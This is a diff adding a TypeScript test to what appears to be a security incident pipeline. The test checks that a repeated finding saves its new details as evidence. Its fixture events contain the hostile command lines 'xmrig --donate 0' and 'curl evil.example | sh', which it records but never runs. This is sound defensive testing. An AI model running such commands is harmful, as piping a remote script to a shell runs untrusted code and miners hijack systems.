@@ -170,6 +170,39 @@ describe('repeats of a finding', () => {
     expect(chat.metadata.threadId).toBe(FINDING_ID);
   });
 
+  it('a repeat keeps its new details as evidence (issue 14, defect 12)', async () => {
+    // Arrange
+    const simulator = new Simulator();
+    await simulator.processEvent(
+      runtimeEvent({ id: FINDING_ID, taskId: TASK_ID, severity: 8, commandLine: 'xmrig --donate 0' }),
+    );
+
+    // Act
+    const repeat = await simulator.processEvent(
+      runtimeEvent({
+        id: FINDING_ID,
+        taskId: TASK_ID,
+        severity: 8,
+        count: 3,
+        commandLine: 'curl evil.example | sh',
+      }),
+    );
+
+    // Assert
+    const run = execution(repeat);
+    expect(run.states).toEqual(
+      expect.arrayContaining(['RecordRepeat', 'CaptureRepeatEvidence', 'NotifyRepeat']),
+    );
+    const name = run.executionArn.split(':').pop() ?? '';
+    const body = objects(simulator)[`incidents/${FINDING_ID}/${name}/repeat.json`];
+    expect(body).toBeDefined();
+    const saved = JSON.parse(body ?? '{}') as {
+      finding: { count: number; process?: { commandLine?: string } };
+    };
+    expect(saved.finding.count).toBe(3);
+    expect(JSON.stringify(saved)).toContain('curl evil.example | sh');
+  });
+
   it('a duplicate delivery of the same occurrence sends nothing new', async () => {
     // Arrange
     const simulator = new Simulator();
